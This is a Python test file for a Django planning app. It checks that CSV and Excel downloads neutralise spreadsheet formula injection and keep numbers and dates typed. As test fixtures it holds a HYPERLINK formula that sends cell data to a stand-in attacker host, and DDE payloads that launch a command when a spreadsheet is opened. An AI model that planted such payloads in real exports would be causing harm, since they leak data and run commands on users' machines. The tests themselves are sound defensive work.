"""Finding 2: no download ever carries a live formula (OWASP CSV injection); numbers and dates
stay typed."""

from __future__ import annotations

import zipfile
from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from plans.models import Plan
from plans.reporting.publishing import report_publish
from plans.safe_export import csv_value, neutralise_xlsx
from plans.services import period_open
from priorities.models import Action
from priorities.services import action_update_save

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?"&B2,"Click for details")'


@pytest.fixture
def attacked(seeded, swale_admin):
    plan = Plan.objects.get(title="Swale Community Safety Plan 2019/20")
    period = period_open(plan=plan, year=2019, quarter=2, deadline=date(2099, 1, 1))
    action = Action.objects.get(priority__plan=plan, ref="2.2")
    action.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    action.save()
    action_update_save(
        user=swale_admin, action=action, period=period, status="on_track", commentary=ATTACK,
        next_steps="-2+3+cmd|' /C calc'!A0", milestones=[], submit=True, expected_version=None,
    )  # fmt: skip
    return {"plan": plan, "period": period, "action": action}


def formulas_in(content: bytes) -> list[str]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def texts_in(content: bytes) -> dict[str, object]:
    book = load_workbook(BytesIO(content))
    return {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+1", "+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("-3.5", "-3.5"), ("plain", "plain"), (12, 12), (None, None)],
)  # fmt: skip
def test_csv_values(value, expected):
    if value == "+1":
        expected = "+1"  # a signed number, not a formula
    assert csv_value(value) == expected


def test_csv_export_prefixes_formula_texts(client, reader, attacked):
    client.force_login(reader)
    response = client.get(reverse("priorities:action_list") + "?export=csv&q=calc")
    text = response.getvalue().decode("utf-8-sig")
    assert "'@SUM(1+1)" in text
    assert "\n@SUM" not in text and ",@SUM" not in text


def test_report_workbook_keeps_commentary_as_text(client, swale_admin, attacked):
    client.force_login(swale_admin)
    content = client.get(reverse("plans:report_workbook", args=[attacked["period"].pk])).content
    assert formulas_in(content) == []
    cells = texts_in(content)
    assert cells[ATTACK].data_type == "s" and cells[ATTACK].quotePrefix


def test_published_copy_is_safe_even_if_stored_before_the_fix(client, swale_admin, attacked):
    published = report_publish(period=attacked["period"], user=swale_admin, reason="")
    assert formulas_in(bytes(published.workbook)) == []
    book = Workbook()
    book.active["A1"] = ATTACK  # an old copy, stored with a live formula
    book.active["B1"] = 42
    old = BytesIO()
    book.save(old)
    published.workbook = old.getvalue()
    published.save()
    client.force_login(swale_admin)
    url = reverse("plans:published_report_workbook", args=[published.pk])
    content = client.get(url).content
    assert formulas_in(content) == []
    sheet = load_workbook(BytesIO(content)).active
    assert sheet["A1"].value == ATTACK and sheet["B1"].value == 42


def test_plan_export_keeps_texts_as_text(client, reader, attacked):
    client.force_login(reader)
    content = client.get(reverse("plans:plan_export", args=[attacked["plan"].pk])).content
    assert formulas_in(content) == []
    assert texts_in(content)[attacked["action"].title].quotePrefix


def test_numbers_stay_numbers():
    book = Workbook()
    book.active.append([3, 2.5, date(2020, 1, 1), "-4"])
    out = BytesIO()
    book.save(out)
    row = [c.value for c in load_workbook(BytesIO(neutralise_xlsx(out.getvalue()))).active[1]]
    assert row[:2] == [3, 2.5] and row[2].year == 2020 and row[3] == "-4"
